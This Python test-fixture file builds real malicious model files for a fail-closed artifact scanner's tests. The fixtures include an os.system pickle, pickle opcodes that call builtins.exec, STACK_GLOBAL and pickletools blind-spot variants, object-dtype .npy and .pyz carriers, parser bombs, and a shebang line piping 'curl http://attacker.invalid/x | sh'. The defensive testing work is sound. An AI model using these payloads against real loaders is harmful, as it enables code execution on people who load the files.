"""Real files for the scanner tests, built byte by byte (no torch or numpy needed)."""

import io
import json
import os
import pickle
import struct
import zipfile
from collections import OrderedDict

import pytest

from models_app.scanning import ScanRefused, scan_artifact


class RunsShell:
    """Unpickling this calls os.system: the classic malicious pickle."""

    def __reduce__(self):
        return (os.system, ("echo pwned",))


def evil_pickle(protocol: int = 4) -> bytes:
    return pickle.dumps(RunsShell(), protocol=protocol)


def benign_pickle() -> bytes:
    return pickle.dumps({"weights": [0.5, -1.25, 3.0], "name": "tiny", "layers": (1, 2),
                         "order": OrderedDict(a=1)})


def torch_zip(data_pkl: bytes) -> bytes:
    """The layout torch.save writes: archive/data.pkl, archive/version, raw storages."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/data/0", struct.pack("<4f", 1.0, 2.0, 3.0, 4.0))
    return buffer.getvalue()


def npy(payload: bytes, descr: str = "|O") -> bytes:
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (63 - 10 - len(header)) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def npz(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def safetensors(tensors: dict | None = None, data: bytes | None = None,
                header_len: int | None = None) -> bytes:
    """A safetensors file; by default two float32 tensors, 2x2 and 3."""
    if tensors is None:
        tensors = {
            "__metadata__": {"format": "pt"},
            "layer.weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
            "layer.bias": {"dtype": "F32", "shape": [3], "data_offsets": [16, 28]},
        }
        data = struct.pack("<7f", *range(7))
    header = json.dumps(tensors).encode()
    header += b" " * (-len(header) % 8)
    length = len(header) if header_len is None else header_len
    return struct.pack("<Q", length) + header + (data or b"")


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + b"\x80\x00\x00\x00" + b"\x00" * 64 + \
    b"PE\x00\x00" + b"\x00" * 40
MACHO_MAGICS = [
    b"\xfe\xed\xfa\xce", b"\xce\xfa\xed\xfe", b"\xfe\xed\xfa\xcf", b"\xcf\xfa\xed\xfe",
    b"\xca\xfe\xba\xbe", b"\xbe\xba\xfe\xca", b"\xca\xfe\xba\xbf", b"\xbf\xba\xfe\xca",
]
SHEBANG = b"#!/bin/sh\ncurl http://attacker.invalid/x | sh\n"


# Attack files for the fail-closed scanner. Each payload creates a marker file when loaded, so a
# test can prove the attack is real before proving the scanner refuses it.


def binunicode(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def marker_call(marker) -> bytes:
    """Opcodes that call builtins.exec to create ``marker`` (leaves one item on the stack)."""
    return (b"cbuiltins\nexec\n" + binunicode(f"open({str(marker)!r}, 'w').close()")
            + b"\x85R")


def marker_pickle(marker, *, before: bytes = b"") -> bytes:
    """A pickle that creates ``marker``; ``before`` is pushed and popped first."""
    return before + (b"0" if before else b"") + marker_call(marker) + b"."


# The integers _pickle reads with base 0 but pickletools refuses to parse.
PICKLETOOLS_BLIND_SPOTS = {"int-hex": b"I0x10\n", "long-hex": b"L0x10L\n"}


def stack_global_pickle(marker) -> bytes:
    """Protocol 4: module and name as strings, resolved by STACK_GLOBAL, memoized and reused."""
    return (b"\x80\x04\x8c\x08builtins\x94\x8c\x04exec\x94\x93\x94"
            + binunicode(f"open({str(marker)!r}, 'w').close()") + b"\x85R.")


def npy_with_header(header: str, payload: bytes) -> bytes:
    """A version 1.0 .npy with the header dict written as given."""
    raw = header.encode()
    raw += b" " * (-(10 + len(raw) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + payload


def npy_object(payload: bytes, descr: str = "'|O'") -> bytes:
    """An object-dtype .npy whose data is ``payload`` (numpy.load unpickles it)."""
    return npy_with_header(f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}",
                           payload)


def zip_of(members: dict[str, bytes], compression=zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def pyz(marker) -> bytes:
    """A zip application: `python file.pyz` runs its __main__.py."""
    return zip_of({"__main__.py": f"open({str(marker)!r}, 'w').close()\n".encode(),
                   "weights.bin": b"\x00" * 64})


def deep_json_safetensors(depth: int = 100_000) -> bytes:
    header = b'{"a":' * depth + b"1" + b"}" * depth
    return struct.pack("<Q", len(header)) + header


def opcode_bomb(size: int) -> bytes:
    """``size`` bytes of one-byte opcodes (push None, pop it) ending in a valid STOP."""
    return b"N0" * ((size - 2) // 2) + b"N."


def torch_data_pkl(tensors: int = 3, protocol: int = 2) -> bytes:
    """A data.pkl as torch.save writes it: an OrderedDict of tensors rebuilt by
    torch._utils._rebuild_tensor_v2 from persistent-id storages (stand-in torch modules, so
    Python's own pickler writes the bytes)."""
    import sys
    import types

    torch = types.ModuleType("torch")
    utils = types.ModuleType("torch._utils")

    class FloatStorage:
        pass

    def _rebuild_tensor_v2(*args):
        return args

    FloatStorage.__module__, FloatStorage.__qualname__ = "torch", "FloatStorage"
    _rebuild_tensor_v2.__module__ = "torch._utils"
    _rebuild_tensor_v2.__qualname__ = "_rebuild_tensor_v2"
    torch.FloatStorage, torch._utils = FloatStorage, utils
    utils._rebuild_tensor_v2 = _rebuild_tensor_v2

    class Storage:
        def __init__(self, key):
            self.key = key

    class Tensor:
        def __init__(self, key):
            self.storage = Storage(key)

        def __reduce_ex__(self, protocol):
            return (_rebuild_tensor_v2, (self.storage, 0, (2, 2), (2, 1), False, OrderedDict()))

    class TorchPickler(pickle.Pickler):
        def persistent_id(self, obj):
            if isinstance(obj, Storage):
                return ("storage", FloatStorage, obj.key, "cpu", 4)
            return None

    saved = {name: sys.modules.get(name) for name in ("torch", "torch._utils")}
    sys.modules.update({"torch": torch, "torch._utils": utils})
    try:
        buffer = io.BytesIO()
        state = OrderedDict((f"layer{i}.weight", Tensor(str(i))) for i in range(tensors))
        TorchPickler(buffer, protocol=protocol).dump(state)
        return buffer.getvalue()
    finally:
        for name, module in saved.items():
            if module is None:
                sys.modules.pop(name, None)
            else:
                sys.modules[name] = module


def real_torch_zip(tensors: int = 3) -> bytes:
    """The layout torch.save writes, with raw float storages as members."""
    members = {"archive/data.pkl": torch_data_pkl(tensors), "archive/byteorder": b"little",
               "archive/version": b"3\n", "archive/.data/serialization_id": b"1234567890"}
    for i in range(tensors):
        members[f"archive/data/{i}"] = struct.pack("<4f", 0.5, -1.0, 2.0, 3.25 + i)
    return zip_of(members)


def scan(data: bytes, filename: str = ""):
    """Scan ``data`` as an upload named ``filename``."""
    return scan_artifact(io.BytesIO(data), size=len(data), filename=filename)


def refused(data: bytes, filename: str = "") -> ScanRefused:
    """The refusal the scanner raises for ``data`` (the test fails if it accepts it)."""
    with pytest.raises(ScanRefused) as caught:
        scan(data, filename)
    return caught.value
